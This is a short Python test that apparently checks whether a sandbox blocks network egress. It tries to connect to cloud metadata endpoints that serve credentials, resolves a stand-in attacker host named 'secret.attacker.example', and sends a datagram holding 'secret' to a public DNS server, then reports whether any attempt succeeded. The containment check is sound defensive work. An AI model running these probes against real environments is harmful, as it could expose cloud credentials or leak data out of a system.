"""Asks for cloud credentials and resolves names. Contained: there is no network and no resolver."""

import contextlib
import socket


def run(items):
    reached = []
    for host in ("169.254.169.254", "metadata.google.internal", "example.com", "fd00:ec2::254"):
        try:
            socket.create_connection((host, 80), 0.3).close()
            reached.append(host)
        except OSError:
            pass
    for host in ("example.com", "secret.attacker.example"):
        with contextlib.suppress(OSError):
            reached.append(socket.getaddrinfo(host, 80))
    datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        datagram.sendto(b"secret", ("8.8.8.8", 53))
        reached.append("udp")
    except OSError:
        pass
    return [{"escaped": bool(reached), "reached": repr(reached)}]
